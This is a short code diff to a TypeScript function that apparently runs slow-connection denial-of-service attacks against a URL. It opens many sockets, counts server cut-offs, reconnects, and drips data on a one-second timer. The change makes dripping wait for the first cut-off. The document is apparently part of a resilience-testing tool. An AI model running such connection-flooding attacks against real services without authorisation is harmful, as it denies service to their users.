@@ -22,6 +22,7 @@ async function begin({ url, attack: name, connections }: AttackTask): Promise<vo
   const sockets = new Set<Socket>();
   let isOver = false;
   let cutOff = 0;
+  const firstCut = Promise.withResolvers<void>();
   const open = async () => {
     const socket = connect(Number(port), hostname);
     sockets.add(socket);
@@ -30,6 +31,7 @@ async function begin({ url, attack: name, connections }: AttackTask): Promise<vo
       sockets.delete(socket);
       if (isOver) return;
       cutOff++;
+      firstCut.resolve();
       if (againAfterMs !== undefined) setTimeout(() => isOver || void open(), againAfterMs);
     });
     if (!deaf) socket.resume();
@@ -39,6 +41,7 @@ async function begin({ url, attack: name, connections }: AttackTask): Promise<vo
   for (let opened = 0; opened < connections; opened += AT_ONCE) {
     await Promise.all(Array.from({ length: Math.min(AT_ONCE, connections - opened) }, open));
   }
+  if (againAfterMs !== undefined) await firstCut.promise;
   const dripping = setInterval(() => {
     if (drip) for (const socket of sockets) socket.write(drip);
   }, 1_000);
